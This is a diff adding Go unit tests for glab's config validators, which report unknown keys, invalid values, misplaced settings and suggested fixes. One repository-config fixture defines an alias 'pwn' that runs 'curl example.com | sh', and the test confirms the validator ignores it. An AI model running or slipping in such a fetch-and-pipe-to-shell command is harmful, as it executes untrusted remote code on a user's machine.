@@ -0,0 +1,139 @@
+//go:build !integration
+
+package config
+
+import (
+	"testing"
+
+	"github.com/MakeNowJust/heredoc/v2"
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestValidateConfig(t *testing.T) {
+	problems, err := ValidateConfig("config.yml", []byte(heredoc.Doc(`
+		git_protocl: ssh
+		glamour_style: dracula
+		check_update: maybe
+		visual: vim
+		token: abc
+		hosts:
+		  gitlab.com:
+		    api_protocol: ftp
+		    token: abc
+		    editor: vim
+		    custom_headers:
+		      - name: X-Header
+		  gitlab.example.com:
+		    is_oauth2: "true"
+		    oauth2_expiry_date: 01 Jan 25 00:00 UTC
+		profiles:
+		  work:
+		    host: gitlab.example.com
+		    user: alice
+		aliases:
+		  co: mr checkout
+		  bad: [mr, list]
+	`)))
+	require.NoError(t, err)
+
+	type problem struct {
+		line    int
+		key     string
+		message string
+		fix     string
+	}
+	var got []problem
+	for _, p := range problems {
+		assert.Equal(t, "config.yml", p.File)
+		got = append(got, problem{p.Line, p.Key, p.Message, p.Fix})
+	}
+	assert.Equal(t, []problem{
+		{1, "git_protocl", `unknown setting "git_protocl".`, `Did you mean "git_protocol"?`},
+		{3, "check_update", `invalid value "maybe" for check_update.`, "Use true or false."},
+		{4, "visual", `glab does not read "visual" from configuration files.`, `Rename it to "editor".`},
+		{8, "hosts.gitlab.com.api_protocol", `invalid value "ftp" for api_protocol.`, "Use one of: https, http."},
+		{10, "hosts.gitlab.com.editor", `"editor" can't be set in the configuration of a host.`, "Move it to the top level of the global configuration, with 'glab config set --global editor <value>'."},
+		{12, "hosts.gitlab.com.custom_headers", `custom header "X-Header" must have either 'value' or 'valueFromEnv'.`, "Each header needs a 'name', and a 'value' or a 'valueFromEnv'."},
+		{19, "profiles.work.user", `"user" can't be set in a profile.`, "Move it to the configuration of a host, with 'glab config set --host <host> user <value>'."},
+		{22, "aliases.bad", `the expansion of the alias "bad" must be a string.`, "Run 'glab alias set bad <expansion>' to fix it."},
+	}, got)
+}
+
+func TestValidateConfig_invalidYAML(t *testing.T) {
+	_, err := ValidateConfig("config.yml", []byte("- a list"))
+	require.Error(t, err)
+	assert.Contains(t, err.Error(), "config.yml is not valid YAML")
+}
+
+func TestValidateLocalConfig(t *testing.T) {
+	problems, err := ValidateLocalConfig("local.yml", []byte(heredoc.Doc(`
+		mr_target_branch: develop
+		hosts:
+		  gitlab.com:
+		    token: abc
+		tokn: abc
+	`)))
+	require.NoError(t, err)
+	require.Len(t, problems, 2)
+	assert.Equal(t, `"hosts" can't be set in the local configuration.`, problems[0].Message)
+	assert.Equal(t, `Did you mean "token"?`, problems[1].Fix)
+}
+
+func TestValidateRepoConfig(t *testing.T) {
+	problems, err := ValidateRepoConfig(".glab.yml", []byte(heredoc.Doc(`
+		mr_reviewers: [alice, bob]
+		ci_variables:
+		  DEPLOY_ENV: staging
+		mr_labels:
+		  - [nested]
+		mr_squash: yes please
+		token: abc
+		aliases:
+		  review: mr list --reviewer=@me
+		  pwn: "!curl example.com | sh"
+	`)))
+	require.NoError(t, err)
+
+	var messages []string
+	for _, p := range problems {
+		messages = append(messages, p.String())
+	}
+	assert.Equal(t, []string{
+		".glab.yml:5: mr_labels must be a value, a list of values, or a mapping of values.",
+		`.glab.yml:6: invalid value "yes please" for mr_squash.`,
+		`.glab.yml:7: "token" can't be set in the repository configuration.`,
+		`.glab.yml:10: the shell alias "pwn" is ignored, because repository configurations can't run commands.`,
+	}, messages)
+}
+
+func TestValidateAliasesConfig(t *testing.T) {
+	problems, err := ValidateAliasesConfig("aliases.yml", []byte(heredoc.Doc(`
+		co: mr checkout
+		ls: "!ls"
+		bad:
+		  nested: value
+	`)))
+	require.NoError(t, err)
+	require.Len(t, problems, 1)
+	assert.Equal(t, "bad", problems[0].Key)
+}
+
+func Test_suggestKey(t *testing.T) {
+	tests := []struct {
+		key   string
+		scope Scope
+		want  string
+	}{
+		{"git_protocl", ScopeGlobal, "git_protocol"},
+		{"api_protcol", ScopeHost, "api_protocol"},
+		{"mr_revewers", ScopeRepo, "mr_reviewers"},
+		{"editr", ScopeHost, ""},
+		{"something_else", ScopeGlobal, ""},
+	}
+	for _, tc := range tests {
+		t.Run(tc.key, func(t *testing.T) {
+			assert.Equal(t, tc.want, suggestKey(tc.key, tc.scope))
+		})
+	}
+}